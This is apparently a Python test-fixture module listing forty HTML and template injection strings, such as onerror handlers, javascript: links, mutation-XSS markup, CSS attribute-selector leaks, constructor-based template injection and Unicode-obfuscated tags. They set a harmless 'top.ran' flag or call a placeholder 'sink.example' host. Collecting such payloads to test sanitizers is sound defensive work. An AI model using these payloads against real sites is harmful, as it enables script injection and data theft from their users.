"""Forty texts that run a script or reach another server wherever a page takes them for more than text.

`top.ran=1` is what would run; SINK is what would be reached.
"""

__all__ = ["INERT", "PAYLOADS", "SINK"]

SINK = "https://sink.example/"
PAYLOADS = [
    "<script>top.ran=1</script>",
    f"<script src={SINK}2.js></script>",
    "<img src=x onerror=top.ran=1>",
    "<svg onload=top.ran=1></svg>",
    "<svg><script href=data:text/javascript,top.ran=1></script></svg>",
    "<svg><animate onbegin=top.ran=1 attributeName=x dur=1s></svg>",
    f'<svg><image href="{SINK}7.png"></image><use href="{SINK}7.svg#x"></use></svg>',
    '<svg><a xlink:href="javascript:top.ran=1"><text y="20">click 8</text></a></svg>',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=top.ran=1&gt;">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=top.ran=1>",
    '<iframe srcdoc="<script>top.ran=1</script>"></iframe>',
    '<iframe src="javascript:top.ran=1"></iframe>',
    f"<style>@import url({SINK}13.css);</style>",
    f"<style>body{{background:url({SINK}14.png)}}</style>",
    f"<style>input[value^=x]{{background:url({SINK}15.png)}}</style><input value=xyz>",
    f'<p style="background-image:url({SINK}16.png)">x</p>',
    f'<meta http-equiv="refresh" content="0;url={SINK}17">',
    f'<base href="{SINK}"><img src="18.png">',
    f'<form action="{SINK}19"><input name="q" autofocus onfocus="form.submit()"></form>',
    f'<object data="{SINK}20"></object><embed src="{SINK}20">',
    '<a href="javascript:top.ran=1">click 21</a>',
    '<a href="data:text/html,<script>opener.top.ran=1</script>">click 22</a>',
    f'<a href="/" ping="{SINK}23">click 23</a>',
    f'<link rel="dns-prefetch" href="{SINK}"><link rel="preconnect" href="{SINK}">',
    f'<link rel="stylesheet" href="{SINK}25.css"><link rel="prefetch" href="{SINK}25">',
    f'<img srcset="{SINK}26.png 1x"><picture><source srcset="{SINK}26.webp"><img></picture>',
    f'<video poster="{SINK}27.png" autoplay><source src="{SINK}27.mp4" onerror=top.ran=1></video>',
    f'<audio src="{SINK}28.mp3" onerror=top.ran=1></audio>',
    f'<div><template shadowrootmode="open"><img src="{SINK}29.png"><slot></slot></template></div>',
    '<noscript><p title="</noscript><img src=x onerror=top.ran=1>">',
    "\"'></title></textarea></style></script>--><img src=x onerror=top.ran=1>",
    "' autofocus tabindex=1 onfocus='top.ran=1' x='\" autofocus tabindex=1 onfocus=\"top.ran=1\" x=\"",
    "<details open ontoggle=top.ran=1><summary>x</summary></details>",
    "<!--><img src=x onerror=top.ran=1>--><![CDATA[<img src=x onerror=top.ran=1>]]>",
    "<\u0073cript>top.ran=1</script>＜img src=x onerror=top.ran=1＞<\ufeffimg src=x onerror=top.ran=1>\u202e",
    "&lt;img src=x onerror=top.ran=1&gt;&#60;img src=x onerror=top.ran=1&#62;",
    f"![x]({SINK}37.png)[click 37](javascript:top.ran=1)<javascript:top.ran=1>",
    "${top.ran=1}`+(top.ran=1)+`${(()=>{top.ran=1})()}",
    '{{constructor.constructor("top.ran=1")()}}{{#with "s" as |s|}}{{lookup s "constructor"}}{{/with}}{{{value}}}',
    "</p></div></article></main></body></html><body onload=top.ran=1><img src=x onerror=top.ran=1>",
]
# By number: what only a template, Markdown, an attribute or a second reading would make something of (browsers of today
# escape < where they write an attribute out again, and follow no data: link); and what no browser tells of, a name that
# is looked up.
INERT = {9, 10, 22, 24, 32, 36, 37, 38, 39}
